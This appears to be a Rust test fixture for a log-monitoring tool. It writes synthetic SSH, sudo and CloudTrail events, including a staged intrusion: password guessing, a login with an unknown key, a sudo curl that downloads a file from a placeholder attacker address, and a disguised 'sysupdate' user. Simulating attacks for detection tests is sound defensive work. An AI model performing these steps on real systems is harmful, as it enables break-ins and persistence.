//! What happens in the run: a baseline that the exporters find, and then an afternoon in a minute.
use serde_json::Value;

use super::log::{Log, Who};
use crate::support::agent::{Agent, SHELL, Session};
use crate::support::cloudtrail_server::{Server, now, record};

pub const KEYS: [(&str, &str); 3] = [
    ("alice", "SHA256:ohD8VZEXGWo6Ez8GSEJQ9WpafgLFsOfLOtGGQCQo6Og"),
    ("bob", "SHA256:Rk0aXdxLdFQyQcD0zrkmzyXDVfVQtn8xSOL0Wv4YvJQ"),
    ("ci", "SHA256:5sVJtqvpVNQ9XoyhWQQ8B0WQGNCHtj9rmOEXh2s2iTM"),
];

const ALICE: Who<'_> = ("alice", KEYS[0].1, "203.0.113.20");
const ALICE_AT_HOME: Who<'_> = ("alice", KEYS[0].1, "10.1.9.3");
const BOB: Who<'_> = ("ec2-user", KEYS[1].1, "10.1.4.9");
const BOB_AT_A_CAFE: Who<'_> = ("ec2-user", KEYS[1].1, "192.0.2.77");
const CI: Who<'_> = ("deploy", KEYS[2].1, "10.1.0.5");
const NOBODY: Who<'_> =
    ("ec2-user", "SHA256:q1Vx0Zk9yYcP7f5uJXW2mS8dNfRtLbHaGeQwTi3oUzE", "198.51.100.23");
const GUESSER: &str = "198.51.100.99";

const DAY: i64 = 86_400;

/// What the logs hold when the exporters start.
pub fn past(logs: &[&Log]) {
    for (i, log) in logs.iter().enumerate() {
        let age = i64::try_from(i).unwrap() * 7_000;
        for (ago, who) in [(20 * DAY, ALICE), (3 * DAY, BOB), (DAY / 2, CI)] {
            let pid = log.ago(ago + age).login(who);
            log.ago(ago + age - 900).logout(pid, who);
        }
        log.ago(7_300 + age).sudo("alice", "/usr/bin/systemctl restart nginx");
        log.ago(5_000 + age).login(ALICE);
        log.ago(4_000 + age).stranger("oracle", GUESSER);
    }
}

/// How many scenes [`scene`] has.
pub const SCENES: usize = 24;

/// The scene in which a session ends that began in an earlier one. A session is known once its file was
/// read: one that ends before is none.
pub const A_SESSION_ENDS: usize = 12;

/// What is moved in a scene.
pub struct Set<'a> {
    pub logs: &'a [&'a Log],
    /// Of each host, in the order of the logs.
    pub agents: &'a mut [Agent],
    pub cloudtrail: &'a Server,
}

/// One scene of the play. They follow each other; all logs have a part in most of them.
pub fn scene(number: usize, set: &mut Set<'_>) {
    let logs = set.logs;
    for (i, log) in logs.iter().enumerate() {
        log.ago(0);
        if (number + i).is_multiple_of(3) {
            let pid = log.login(CI);
            log.sudo("deploy", "/usr/bin/systemctl reload nginx");
            log.logout(pid, CI);
        }
        if (number * 5 + i) % 7 < 3 {
            log.stranger(["admin", "test", "oracle"][number % 3], GUESSER);
            log.scanner("192.0.2.200");
        }
    }
    on_the_first_hosts(number, logs);
    through_session_manager(number, set.agents);
    in_aws(number, set.cloudtrail);
}

/// alice's session stays open, carol's ends, dave's is one of which CloudTrail tells too, and of
/// bob's it never does.
fn through_session_manager(number: usize, agents: &mut [Agent]) {
    let of = |owner| Session { owner, ..SHELL };
    match number {
        4 => agents[0].opens("alice-1", of("arn:aws:iam::123456789012:user/alice")),
        7 => agents[1].opens("carol-1", of("arn:aws:sts::123456789012:assumed-role/Ops/carol")),
        A_SESSION_ENDS => agents[1].ends("carol-1"),
        18 => agents[2].opens("dave-1", of("arn:aws:iam::123456789012:user/dave")),
        20 => agents[0].opens("bob-1", of("arn:aws:sts::123456789012:assumed-role/Ops/bob")),
        _ => {}
    }
}

fn on_the_first_hosts(number: usize, logs: &[&Log]) {
    let (app, db) = (logs[0], logs[logs.len() - 1]);
    match number {
        1 => drop(app.login(ALICE)),
        2 => app.sudo("alice", "/usr/bin/journalctl -u nginx"),
        3 => drop(db.login(BOB)),
        5 => {
            app.su("alice");
            db.su("ec2-user");
        }
        6 => app.sudo("ssm-user", "/usr/bin/less /var/log/messages"),
        7 => drop(db.login(ALICE)),
        8 => (0..6).for_each(|_| app.failed("backup", GUESSER)),
        9 => drop(app.login_by_password("backup", GUESSER)),
        10 => app.sudo_refused("backup", "/usr/bin/bash"),
        11 => app.su_refused("backup"),
        13 => drop(app.login(NOBODY)),
        14 => app.sudo("ec2-user", "/usr/bin/curl -O http://198.51.100.23/x"),
        15 => app.user_added("sysupdate"),
        16 => drop(app.login(ALICE_AT_HOME)),
        17 => drop(db.login(BOB_AT_A_CAFE)),
        18 => app.failed("alice", ALICE_AT_HOME.2),
        19 => (0..4).for_each(|_| db.failed("postgres", GUESSER)),
        20 => db.unknown(),
        21 => db.sudo("ssm-user", "/usr/bin/psql -U postgres"),
        _ => {}
    }
}

fn in_aws(number: usize, cloudtrail: &Server) {
    let told = match number {
        4 => by("alice", "StartSession", "app-1"),
        7 => by("Ops/carol", "StartSession", "app-2"),
        12 => by("Ops/carol", "SendSSHPublicKey", "db-1"),
        16 => refused(by("mallory", "StartSession", "db-1")),
        18 => by("dave", "StartSession", "db-1"),
        22 => by("Ops/carol", "TerminateSession", "app-2"),
        _ => return,
    };
    cloudtrail.add_record(told);
}

/// The instance ID of each host.
pub fn instance(host: &str) -> &'static str {
    match host {
        "app-1" => "i-0a1b2c3d4e5f60718",
        "app-2" => "i-0b2c3d4e5f6071829",
        _ => "i-0c3d4e5f607182930",
    }
}

/// A record of what `who` did to a host, `ROLE/SESSION` or the name of an IAM user.
fn by(who: &str, event_name: &str, host: &str) -> Value {
    let mut record = record(&format!("{event_name}-{who}-{host}"), event_name, now());
    let account = "123456789012";
    record["userIdentity"] = match who.split_once('/') {
        Some((role, session)) => serde_json::json!({
            "type": "AssumedRole", "principalId": format!("AROAEXAMPLE:{session}"),
            "arn": format!("arn:aws:sts::{account}:assumed-role/{role}/{session}"),
            "sessionContext": {"sessionIssuer": {"type": "Role", "userName": role}},
        }),
        None => serde_json::json!({
            "type": "IAMUser", "userName": who, "arn": format!("arn:aws:iam::{account}:user/{who}"),
        }),
    };
    let instance = instance(host);
    // As the host's agent calls it.
    let session = format!("{}-1", who.rsplit('/').next().unwrap());
    record["responseElements"] = serde_json::json!({"sessionId": session});
    record["requestParameters"] = match event_name {
        "StartSession" => serde_json::json!({"target": instance}),
        "SendSSHPublicKey" => {
            serde_json::json!({"instanceId": instance, "instanceOSUser": "ec2-user"})
        }
        _ => serde_json::json!({"sessionId": session}),
    };
    record
}

fn refused(mut record: Value) -> Value {
    record["errorCode"] = "AccessDenied".into();
    record["responseElements"] = Value::Null;
    record
}

/// A record for a trail's file, from before the run.
pub fn in_the_trail() -> String {
    let mut old = by("alice", "StartSession", "db-1");
    old["eventTime"] =
        (jiff::Timestamp::now() - jiff::SignedDuration::from_hours(9)).to_string().into();
    old["eventID"] = "of-the-trail".into();
    serde_json::json!({"Records": [old]}).to_string()
}
